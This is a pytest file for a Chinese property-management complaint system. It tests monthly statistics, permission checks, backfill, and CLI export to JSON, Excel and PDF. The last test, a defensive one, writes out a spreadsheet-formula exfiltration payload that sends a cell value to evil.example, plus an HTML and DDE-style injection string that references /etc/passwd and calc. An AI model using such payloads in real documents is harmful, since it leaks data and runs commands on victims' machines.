"""R7.1 monthly statistics over a month of cases built on an injected clock; every figure exact.

A repair and a consultation received on Thursday 26 at 丽雅苑 are counted alongside, both open.

November 2026 at 深圳物业 (sz-property), Shanghai time:

====  ================  =========  =====================================================================
case  received          project    path
====  ================  =========  =====================================================================
A     Mon 23 10:00      丽雅苑     facilities, phone: every step in time; closed Wed 25 15:00, 满意
B     Mon 23 11:00      锦华园     billing, wechat: order signed late, reply late, work never finished
C     Tue 24 09:00      丽雅苑     facilities, phone: closed as unresolvable Tue 24 11:00
D     Wed 25 10:00      丽雅苑     attitude, visit, emergency? no: solved on the spot, closed at once
====  ================  =========  =====================================================================

Outside the month or the unit, never counted: a complaint at 华南区域 (another subsidiary), one
received on Tuesday 1 December 07:30 Shanghai time (still 30 November in UTC), and one of October.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from engine.errors import FormError, NotFoundError, PermissionDenied
from engine.permissions import subject_of
from engine.reports.monthly import monthly_statistics
from engine.runtime.access import load_staff
from tests.conftest import shanghai
from tests.scenarios.conftest import Desk

REQUIRED_BY = "2026-11-27T17:00:00+08:00"
AGREED = "2026-11-26T17:00:00+08:00"


def _order(desk: Desk, n: str, raise_at: str, sign_at: str) -> None:
    desk.at(raise_at)
    desk.complete(n, "raise_order", order_summary="请责任部门处理", required_completion=REQUIRED_BY)
    desk.at(sign_at)
    desk.complete(n, "sign_order", order_decision="sign")


def _visit(desk: Desk, n: str, at: str) -> None:
    desk.at(at)
    desk.visit_photo(n)
    desk.complete(n, "visit_customer", contact_result="agreed", visit_record="已上门", plan="更换防水层",
                  agreed_completion=AGREED, customer_confirmed_plan=True)


def _reply(desk: Desk, n: str, at: str) -> None:
    desk.at(at)
    desk.complete(n, "reply_customer", reply_method="phone", reply_content="已安排",
                  done_within_reply_window=True)


def build_november(desk: Desk) -> dict[str, str]:
    """The cases of the table above; returns their numbers."""
    numbers: dict[str, str] = {}
    desk.at("2026-10-30 10:00")
    desk.open(description="十月的投诉")  # another month
    desk.at("2026-11-23 10:00")
    a = numbers["A"] = desk.open(description="楼上漏水").number
    _order(desk, a, "2026-11-23 10:10", "2026-11-23 10:20")  # dispatch due 10:30
    _visit(desk, a, "2026-11-23 10:40")  # due 11:20
    _reply(desk, a, "2026-11-23 10:50")  # due Tue 10:20
    desk.at("2026-11-23 11:00")
    b = numbers["B"] = desk.open("liu.yang", description="物业费账单错误", category="billing",
                                 channel="wechat", room="8栋101").number
    _order(desk, b, "2026-11-23 11:20", "2026-11-23 11:40")  # dispatch due 11:30: late
    _visit(desk, b, "2026-11-23 12:30")  # due 12:40
    _reply(desk, b, "2026-11-24 12:00")  # due Tue 11:40: late
    desk.complete(b, "carry_out_work", progress="核对中", work_result="in_progress")  # never finished
    desk.at("2026-11-24 09:00")
    c = numbers["C"] = desk.open(description="地下室返潮").number
    _order(desk, c, "2026-11-24 09:10", "2026-11-24 09:20")
    _visit(desk, c, "2026-11-24 09:40")
    _reply(desk, c, "2026-11-24 10:00")
    desk.at("2026-11-24 11:00")
    desk.complete(c, "carry_out_work", progress="需市政处理", work_result="unresolvable")
    desk.complete(c, "approve_unresolvable", unresolvable_decision="approve", unresolvable_reason="市政管网")
    desk.at("2026-11-25 10:00")
    numbers["D"] = desk.open(description="保安态度差", category="attitude", channel="visit",
                             solved_on_spot=True, customer_confirmed=True,
                             on_spot_resolution="当面致歉并批评教育当班保安").number
    desk.at("2026-11-25 15:00")
    desk.complete(a, "carry_out_work", progress="完成", work_result="finished")  # due Thu 26 17:00
    desk.complete(a, "apply_closure", completion_record="客户签字验收", customer_signed=True)
    desk.complete(a, "check_closure", check_result="accept", return_visit_needed=True)
    desk.complete(a, "contact_customer", reached=True, attempt_note="电话接通")
    desk.complete(a, "record_return_visit", visit_method="on_site", satisfaction="satisfied",
                  return_visit_record="客户满意", customer_agrees=True)
    desk.complete(a, "deputy_gm_review", deputy_decision="approve")
    desk.complete(a, "gm_approve", gm_decision="approve", final_outcome="resolved")
    desk.at("2026-11-26 10:00")
    desk.open("fan.ming", description="滨海湾的投诉", room="1栋101")  # another subsidiary
    desk.runtime.open_case("repair", {"customer_name": "李女士", "customer_phone": "13612345678",
                                      "room": "5栋2单元801", "location": "in_home", "location_detail": "主卫",
                                      "description": "卫生间水龙头漏水", "channel": "phone"}, "zhang.wei")
    desk.runtime.open_case("consultation", {"customer_name": "陈先生", "customer_phone": "13711112222",
                                            "room": "2栋1单元502", "channel": "phone",
                                            "question": "小区快递柜在哪里？"}, "zhang.wei")
    desk.at("2026-12-01 07:30")
    desk.open(description="十二月一日清晨的投诉")  # 30 November 23:30 UTC: December in Shanghai
    return numbers


def report(desk: Desk, unit: str | None, at: str = "2026-12-03 09:00", **kw: Any) -> dict[str, Any]:
    runtime = desk.runtime
    return monthly_statistics(runtime.store, runtime.policies, "2026-11", unit, now=shanghai(at), **kw)


def test_every_figure_of_a_subsidiarys_month(desk: Desk) -> None:
    numbers = build_november(desk)
    figures = report(desk, "sz-property")
    assert figures["month"] == "2026-11" and figures["unit"] == "sz-property" and figures["final"] is True
    assert figures["as_of"] == "2026-12-01T00:00:00+08:00"
    c = figures["complaints"]
    assert (c["received"], c["valid"], c["closed"], c["open"], c["unresolvable"]) == (4, 4, 3, 1, 1)
    assert c["by_project"] == {"sz-property-jhy": 1, "sz-property-lyc": 3}
    assert c["by_category"] == {"attitude": 1, "billing": 1, "facilities": 2}
    assert c["by_project_category"] == {"sz-property-jhy": {"billing": 1},
                                        "sz-property-lyc": {"attitude": 1, "facilities": 2}}
    assert c["by_channel"] == {"phone": 2, "visit": 1, "wechat": 1}
    assert c["by_urgency"] == {"normal": 4}
    assert c["by_department"] == {"finance": 1, "property": 3}
    # A and C in time, B signed 10 minutes after the dispatch deadline; D had no order.
    assert figures["deadlines"]["dispatch"] == {"due": 3, "on_time": 2, "late": 1, "rate": 0.6667}
    assert figures["deadlines"]["visit"] == {"due": 3, "on_time": 3, "late": 0, "rate": 1.0}
    assert figures["deadlines"]["reply"] == {"due": 3, "on_time": 2, "late": 1, "rate": 0.6667}
    # A finished before the agreed Thursday 17:00; B never did; C closed (unresolvable) before its.
    assert figures["deadlines"]["completion"] == {"due": 2, "on_time": 1, "late": 1, "rate": 0.5}
    # A: Mon 10:00–12:00, 13:30–17:30 (360) + Tue (450) + Wed 08:30–12:00, 13:30–15:00 (300) = 1110;
    # C: Tue 09:00–11:00 = 120; D: 0. (1110 + 120 + 0) / 3 / 60 = 6.83 working hours.
    assert figures["handling"] == {"closed": 3, "working_minutes": 1230, "average_working_hours": 6.83}
    assert figures["return_visits"] == {"closed": 3, "visited": 1, "coverage": 0.3333,
                                        "satisfaction": {"satisfied": 1, "basically_satisfied": 0,
                                                         "dissatisfied": 0}}
    assert figures["repairs"] == {"received": 1, "closed": 0, "open": 1}
    assert figures["consultations"] == {"received": 1, "closed": 0, "open": 1}
    items = {i["number"]: i for i in figures["items"]}
    assert list(items) == [numbers[k] for k in "ABCD"]
    assert items[numbers["A"]]["content"] == "楼上漏水"
    assert items[numbers["A"]]["corrective"] == "更换防水层\n客户签字验收"
    assert items[numbers["A"]]["closed"] is True
    assert items[numbers["B"]]["closed"] is False
    assert items[numbers["C"]]["outcome"] == "unresolvable"
    assert items[numbers["D"]]["corrective"] == "当面致歉并批评教育当班保安"
    assert figures["names"]["categories"]["facilities"] == "房屋设备管理"


def test_a_project_and_the_group_count_their_own_cases(desk: Desk) -> None:
    build_november(desk)
    lyc = report(desk, "sz-property-lyc")["complaints"]
    assert (lyc["received"], lyc["closed"], lyc["open"]) == (3, 3, 0)
    assert lyc["by_project"] == {"sz-property-lyc": 3}
    group = report(desk, None)
    assert group["unit"] == "group"
    assert group["complaints"]["received"] == 5
    assert group["complaints"]["by_project"] == {"hn-region-bhw": 1, "sz-property-jhy": 1,
                                                 "sz-property-lyc": 3}


def test_the_running_month_counts_as_at_now(desk: Desk) -> None:
    build_november(desk)
    figures = report(desk, "sz-property", at="2026-11-25 12:00")
    assert figures["final"] is False
    c = figures["complaints"]
    # By Wednesday noon A was still open; C closed Tuesday, D at 10:00; B's completion not yet due.
    assert (c["closed"], c["open"]) == (2, 2)
    assert figures["deadlines"]["completion"] == {"due": 0, "on_time": 0, "late": 0, "rate": None}
    assert figures["return_visits"]["visited"] == 0


def test_a_subsidiarys_manager_reads_its_report_and_not_the_other_subsidiarys(desk: Desk) -> None:
    build_november(desk)
    with desk.runtime.store.read() as tx:
        manager = subject_of(load_staff(tx, "he.jing"), tx.units)  # 深圳物业 CS manager
        specialist = subject_of(load_staff(tx, "wang.fang"), tx.units)
        group = subject_of(load_staff(tx, "zheng.xiaoyan"), tx.units)
    assert report(desk, "sz-property", subject=manager)["complaints"]["received"] == 4
    assert report(desk, "sz-property-jhy", subject=manager)["complaints"]["received"] == 1
    with pytest.raises(PermissionDenied) as other:
        report(desk, "hn-region", subject=manager)
    assert "其他单位" in (other.value.zh or "")
    with pytest.raises(PermissionDenied):
        report(desk, None, subject=manager)  # the group's
    with pytest.raises(PermissionDenied):
        report(desk, "sz-property", subject=specialist)  # not a manager
    assert report(desk, "hn-region", subject=group)["complaints"]["received"] == 1


@pytest.mark.parametrize("month", ["2026-13", "2026-1", "11-2026", "", "1999-12"])
def test_a_bad_month_is_a_form_error_naming_the_field(desk: Desk, month: str) -> None:
    with pytest.raises(FormError) as bad:
        monthly_statistics(desk.runtime.store, desk.runtime.policies, month, None,
                           now=shanghai("2026-12-03 09:00"))
    assert "month" in bad.value.errors


def test_an_unknown_unit_or_a_department_is_refused_with_a_hint(desk: Desk) -> None:
    with pytest.raises(NotFoundError) as unknown:
        report(desk, "sz-propety")
    assert "sz-property" in str(unknown.value)
    with pytest.raises(FormError):
        report(desk, "sz-property-cs")


def test_cases_from_before_the_statistics_are_filled_in_with_the_same_figures(desk: Desk) -> None:
    from engine.reports.facts import backfill

    build_november(desk)
    before = report(desk, "sz-property")
    with desk.runtime.store.write() as tx:
        tx.conn.exec_driver_sql("DELETE FROM case_stats")
    assert report(desk, "sz-property")["complaints"]["received"] == 0
    assert backfill(desk.runtime) == 9  # every case of the desk, October's and December's included
    assert report(desk, "sz-property") == before
    assert backfill(desk.runtime) == 0


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def test_the_cli_prints_json_and_writes_excel_and_pdf_with_user_text_kept_inert(
        desk: Desk, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from openpyxl import load_workbook

    from engine.cli import main
    from tests.hostile.pdftext import pdf_text

    build_november(desk)
    desk.at("2026-11-27 09:00")
    desk.open(description=HOSTILE, on_spot_resolution='<img src="/etc/passwd"/>+cmd|calc')
    url = desk.runtime.store.url
    base = ["--db", url, "--now", "2026-12-03T09:00:00+08:00"]
    assert main([*base, "report", "monthly", "--month", "2026-11", "--unit", "sz-property"]) == 0
    figures = json.loads(capsys.readouterr().out)
    assert figures["month"] == "2026-11" and figures["unit"] == "sz-property"
    assert figures["complaints"]["received"] == 5
    assert set(figures["complaints"]) >= {"received", "valid", "closed", "open", "unresolvable",
                                          "by_category", "by_project"}
    xlsx = tmp_path / "nov.xlsx"
    monthly = [*base, "report", "monthly", "--month", "2026-11", "--unit", "sz-property"]
    assert main([*monthly, "--format", "xlsx", "--out", str(xlsx)]) == 0
    book = load_workbook(xlsx)
    assert book.sheetnames == ["月度统计", "投诉明细"]
    cells = [c for row in book["投诉明细"].iter_rows() for c in row if c.value == "'" + HOSTILE]
    assert cells and all(c.data_type == "s" for c in cells)  # text, never a formula
    summary = [[c.value for c in row][:2] for row in book["月度统计"].iter_rows()]
    assert ["受理投诉", 5] in summary and ["未结案", 2] in summary
    pdf = tmp_path / "nov.pdf"
    assert main([*monthly, "--format", "pdf", "--out", str(pdf)]) == 0
    text = pdf_text(pdf.read_bytes())
    assert "深圳物业公司 2026年11月 客户投诉月度统计" in text
    assert '<imgsrc="/etc/passwd"/>' in text.replace(" ", "")  # drawn as characters, not read as markup
    capsys.readouterr()
    assert main([*base, "--as", "he.jing", "report", "monthly", "--month", "2026-11",
                 "--unit", "hn-region"]) == 1
    assert "another unit" in capsys.readouterr().err
    assert main([*base, "report", "monthly", "--month", "2026-11", "--format", "pdf"]) == 1
    assert "--out" in capsys.readouterr().err
